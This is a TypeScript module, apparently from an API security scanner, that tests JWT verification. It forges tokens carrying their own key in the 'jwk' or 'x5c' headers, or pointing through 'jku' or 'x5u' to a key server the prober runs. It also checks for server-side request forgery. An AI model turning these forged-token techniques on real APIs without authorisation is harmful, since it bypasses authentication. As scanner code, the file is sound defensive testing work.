import { type AttackOutcome, inconclusive, type OperationAttack, type OperationContext, skipped } from '../attack.ts';
import { type Credential, withToken } from '../credentials.ts';
import { startKeyServer } from '../jwt/key-server.ts';
import { type OwnKey, ownKeyFor } from '../jwt/own-key.ts';
import { type JsonObject, type Jwt, refreshed, signAsymmetric } from '../jwt/token.ts';
import { remedies } from '../remedies.ts';
import { jwtAttack, tryTokens } from './jwt-signature.ts';

const remedy = remedies['jwt-key-from-header'];

function signedWithOwn(
  { header, claims }: Jwt,
  { alg, privateKey, jwk }: OwnKey,
  more: JsonObject,
  keepKid = false,
): string {
  return signAsymmetric(
    { ...header, alg, ...(keepKid ? {} : { kid: jwk.kid }), ...more },
    refreshed(claims),
    privateKey,
  );
}

export const jwkEmbedded = jwtAttack(
  {
    id: 'jwk-embedded',
    number: 'D18',
    title: 'A key in the header of a JWT is trusted',
    cwe: [347],
    severity: 'critical',
    why: 'The token brings the key that it is verified with, so anybody can sign one with a key of his own.',
    remedy,
  },
  (jwt) => {
    const own = ownKeyFor(String(jwt.header.alg));
    return [false, true].map((keepKid) => ({
      what: 'a token that is signed with a key in its own header',
      token: signedWithOwn(jwt, own, { jwk: keepKid ? { ...own.jwk, kid: jwt.header.kid } : own.jwk }, keepKid),
      recipe: `The valid token's claims, signed by ${own.alg} with a new key that stands as "jwk" in the header.`,
    }));
  },
  { isImplied: true },
);

export const x5cSelfSigned = jwtAttack(
  {
    id: 'x5c-selfsigned',
    number: 'D21',
    title: 'A self-signed certificate in the header of a JWT is trusted',
    cwe: [295, 347],
    severity: 'critical',
    why: 'The chain leads to no authority that the API knows, so anybody can make one.',
    remedy,
  },
  (jwt) => {
    const own = ownKeyFor(String(jwt.header.alg));
    const x5c = [own.certificate.toString('base64')];
    return [false, true].map((keepKid) => ({
      what: 'a token that is signed with the key of a self-signed certificate in its own header',
      token: signedWithOwn(jwt, own, { x5c }, keepKid),
      recipe: `The valid token's claims, signed by ${own.alg} with a new key, whose self-signed certificate stands as "x5c" in the header.`,
    }));
  },
  { isImplied: true },
);

export const jkuInjection = fetchedKey(
  {
    id: 'jku-inject',
    number: 'D19',
    title: 'A key set that a JWT names is fetched',
    cwe: [347, 918],
    severity: 'critical',
    why: 'The token says where its key is: anybody can sign one, and make the API ask any address that it can reach.',
    remedy,
  },
  'jku',
  '/jwks.json',
);

export const x5uInjection = fetchedKey(
  {
    id: 'x5u-inject',
    number: 'D20',
    title: 'A certificate that a JWT names is fetched',
    cwe: [347, 918],
    severity: 'critical',
    why: 'The token says where its certificate is: anybody can sign one, and make the API ask any address that it can reach.',
    remedy,
  },
  'x5u',
  '/certificate.pem',
);

/** A fetch alone is a finding, too: it is a request that anybody can make the API send (CWE-918). */
function fetchedKey(
  info: Omit<OperationAttack, 'level' | 'run'>,
  header: 'jku' | 'x5u',
  path: string,
): OperationAttack {
  return {
    ...info,
    level: 'operation',
    async run(context) {
      const { jwt, verdicts, isLoopback } = context;
      if (jwt === undefined) return skipped('The credential is no JWT.');
      if (verdicts.get('sig-bitflip') === 'vulnerable')
        return skipped('The signature is not checked at all (sig-bitflip).');
      const own = ownKeyFor(String(jwt.header.alg));
      const server = await startKeyServer(own);
      try {
        const outcome = await tryTokens(context, tokensNaming(jwt, own, header, server.url + path));
        if (outcome.verdict === 'vulnerable' || server.fetched.length === 0)
          return unlessUnreachable(outcome, isLoopback);
        return await fetchedAlone(context, jwt, own, header, server.url + path);
      } finally {
        server.close();
      }
    },
  };
}

function tokensNaming(jwt: Jwt, own: OwnKey, header: 'jku' | 'x5u', url: string) {
  return [false, true].map((keepKid) => ({
    what: `a token that is signed with a key from an address in its own header (${header})`,
    token: signedWithOwn(jwt, own, { [header]: url }, keepKid),
    recipe: `The valid token's claims, signed by ${own.alg} with a new key, which a server of the prober's own offers at the address in "${header}".`,
  }));
}

function unlessUnreachable(outcome: AttackOutcome, isLoopback: boolean): AttackOutcome {
  if (outcome.verdict !== 'safe' || isLoopback) return outcome;
  return inconclusive(
    'It was refused and nothing was fetched, but the API cannot reach the key server on this machine.',
  );
}

async function fetchedAlone(
  context: OperationContext,
  jwt: Jwt,
  own: OwnKey,
  header: 'jku' | 'x5u',
  url: string,
): Promise<AttackOutcome> {
  const [token] = tokensNaming(jwt, own, header, url);
  const request = context.with(withToken(context.credential as Credential, token?.token ?? ''));
  return {
    verdict: 'vulnerable',
    severity: 'high',
    message: `${context.operation.method} ${context.operation.path} refuses the token, but fetches the address that its header names as ${header}.`,
    exchanges: [await context.client.exchange(request)],
    recipe: `A token with an address of the prober's own as "${header}" in its header.`,
  };
}
